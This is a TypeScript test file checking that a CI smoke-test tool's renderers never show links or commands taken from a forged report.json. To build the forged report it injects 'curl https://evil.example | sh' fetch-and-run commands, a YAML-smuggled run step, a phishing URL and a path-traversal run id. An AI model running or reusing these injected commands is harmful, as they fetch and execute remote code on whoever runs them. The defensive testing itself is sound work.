/**
 * A report from another run (a rerun source, report-only, a merge) supplies data, never links or commands. A fork's
 * artifact can say anything in report.json: every renderer must show only links built from the rendering run's own
 * context and commands built from valid fixture ids, whatever the report's `run`, source URL or fallback commands say.
 */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { annotationsFor } from '../../src/render/annotations.ts';
import { renderHtmlReport } from '../../src/render/html.ts';
import { renderJobSummary } from '../../src/render/job-summary.ts';
import { formatSummary } from '../../src/render/terminal.ts';
import { summaryViewOf, type ViewContext } from '../../src/render/view.ts';
import { Report } from '../../src/report/schema.ts';
import { dataReport } from '../support/report-helpers.ts';

const OWN: ViewContext = { serverUrl: 'https://github.com', repository: 'acme/shop-web', workflow: 'Smoke', ref: 'refs/heads/main' };
const EVIL = 'evil.example';

/** A schema-valid report whose every free text field points elsewhere or carries a command. */
function forged(name: string): Report {
  const report = structuredClone(dataReport(name));
  report.run = { ...report.run, serverUrl: `https://${EVIL}`, repository: `attacker/${EVIL}`, workflow: `Smoke; curl https://${EVIL} | sh`, ref: 'refs/heads/forged' };
  if (report.selection.source) report.selection.source.url = `https://${EVIL}/phish`;
  if (report.preflight?.fallback) {
    report.preflight.fallback.cliCommand = `npx reliability-smoke --fixture a; curl https://${EVIL} | sh`;
    report.preflight.fallback.fullRun = `curl https://${EVIL} | sh`;
    report.preflight.fallback.actionInput = `a\n      run: curl https://${EVIL} | sh`;
    report.preflight.fallback.fixtureIds = ['home', 'checkout'];
  }
  return Report.parse(report);
}

/** Everything a person sees of it, through every renderer. */
function rendered(report: Report, context: ViewContext | null): string {
  const view = summaryViewOf(report, { context, commandArgs: ['--base-url', 'https://staging.example.com'] });
  return [
    renderJobSummary(view),
    formatSummary(view),
    renderHtmlReport(report, view),
    ...annotationsFor(view, { error: 50, warning: 50 }).map((annotation) => annotation.message),
  ].join('\n');
}

/** Links: Markdown and HTML links, and the URLs the terminal prints after "Run:" and "Rerun of". */
const linksIn = (text: string) =>
  [
    ...text.matchAll(/\]\((https?:[^)\s]+)\)/g),
    ...text.matchAll(/href="(https?:[^"]+)"/g),
    ...text.matchAll(/^(?:Run:|Rerun of .*) (https?:\S+)$/gm),
  ].map((match) => match[1]!);

describe('a report from another run', () => {
  for (const name of ['report-rerun-same-sha.json', 'report-failing-flaky.json', 'report-preflight-no-artifact.json']) {
    test(`${name}: links go only to our own server and repository, whatever its run and source say`, () => {
      const text = rendered(forged(name), OWN);
      // The report's repository may show as text (it is data); no link and no command comes from it.
      assert.deepEqual(linksIn(text).filter((link) => link.includes(EVIL)), [], 'no forged link');
      assert.deepEqual(text.split('\n').filter((line) => /curl/.test(line)), [], 'no forged command');
      const ours = linksIn(text).filter((link) => !link.startsWith('https://staging.example.com'));
      assert.ok(ours.length > 0, 'the run itself is linked');
      for (const link of ours) assert.match(link, /^https:\/\/github\.com\/acme\/shop-web\/actions\/runs\/\d+(\/attempts\/\d+)?$/, link);
    });
  }

  test('without a context of our own there are no links and no workflow command at all', () => {
    const report = forged('report-failing-flaky.json');
    const view = summaryViewOf(report, {});
    assert.equal(view.run.url, null);
    assert.equal(view.next?.action.rerunFailed, null);
    assert.deepEqual(linksIn(renderJobSummary(view)), []);
  });

  test('fallback commands are made again from the ids, with our own arguments', () => {
    const view = summaryViewOf(forged('report-preflight-no-artifact.json'), { context: OWN, commandArgs: ['--base-url', 'https://staging.example.com'] });
    assert.deepEqual(view.preflight?.fallback, {
      fixtureIds: ['home', 'checkout'],
      cliCommand: 'npx reliability-smoke --base-url https://staging.example.com --fixture home --fixture checkout',
      actionInput: 'home,checkout',
      fullRun: 'npx reliability-smoke --base-url https://staging.example.com',
    });
  });

  test('the rerun command names our workflow and repository, not the ones the report gives', () => {
    const view = summaryViewOf(forged('report-failing-flaky.json'), { context: OWN });
    assert.equal(view.next?.action.rerunFailed, 'gh workflow run Smoke -R acme/shop-web --ref main -f rerun-failed=true');
  });

  test('a run id that is not a number links nowhere', () => {
    const report = forged('report-failing-flaky.json');
    report.run.runId = '1/../../../evil';
    assert.equal(summaryViewOf(report, { context: OWN }).run.url, null);
  });
});
